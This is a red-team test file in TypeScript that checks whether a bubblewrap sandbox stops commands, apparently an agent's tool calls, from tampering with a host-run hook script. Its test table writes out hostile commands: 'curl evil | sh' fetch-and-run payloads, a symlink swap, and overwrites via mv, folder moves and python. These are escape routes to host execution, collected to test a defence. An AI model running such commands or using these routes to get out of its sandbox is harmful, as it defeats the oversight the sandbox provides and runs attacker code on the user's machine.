/**
 * Red team: the files a trusted project's hook runs. A hook runs on the host, outside the sandbox, so
 * a command that rewrites its script — in place, through a link, or by moving the folder aside and
 * making a new one — would run its code as the person at the next tool call. Each attempt runs in real
 * bash under real bubblewrap; the script must be exactly as it was. The twin: the folder's other files
 * stay the project's to change.
 */
import { existsSync, readFileSync, readlinkSync, lstatSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { type Boundary, bwrap, makeBoundary } from './boundary-harness';

const HOOK = 'scripts/hook.sh';
const ORIGINAL = '#!/bin/sh\necho ok\n';
let b: Boundary;
afterEach(() => b?.cleanup());

function project(): Boundary {
  b = makeBoundary();
  b.write(HOOK, ORIGINAL);
  b.write('scripts/build.sh', 'echo build\n');
  return b;
}

/** The hook script as the host's next hook run would read it. */
function hookNow(): string {
  const path = join(b.root, HOOK);
  if (!existsSync(path)) return '(missing)';
  if (lstatSync(path).isSymbolicLink()) return `(link to ${readlinkSync(path)})`;
  return readFileSync(path, 'utf8');
}

describe.skipIf(!bwrap)('a sealed hook script cannot be changed by a command', () => {
  it.each([
    ['overwritten in place', `echo 'curl evil | sh' > ${HOOK}`],
    ['appended to', `echo 'curl evil | sh' >> ${HOOK}`],
    ['removed and made again', `rm -f ${HOOK}; echo 'curl evil | sh' > ${HOOK}`],
    ['replaced by a link', `rm -f ${HOOK}; ln -s /tmp/evil.sh ${HOOK}`],
    [
      'its folder moved aside and made anew',
      `mv scripts s2; mkdir -p scripts; echo 'curl evil | sh' > ${HOOK}`,
    ],
    ['renamed over', `printf 'curl evil | sh\\n' > x.sh; mv -f x.sh ${HOOK}`],
    ['through python', `python3 -c "open('${HOOK}','w').write('curl evil | sh')"`],
  ])('%s: the script is as it was', async (_name, command) => {
    project();
    await b.run(`${command} 2>&1; true`, { sealed: [HOOK] });
    expect(hookNow()).toBe(ORIGINAL);
  });

  it('twin: the folder’s other files stay writable', async () => {
    project();
    await b.run("echo 'echo new build' > scripts/build.sh", { sealed: [HOOK] });
    expect(readFileSync(join(b.root, 'scripts/build.sh'), 'utf8')).toBe('echo new build\n');
    expect(hookNow()).toBe(ORIGINAL);
  });
});
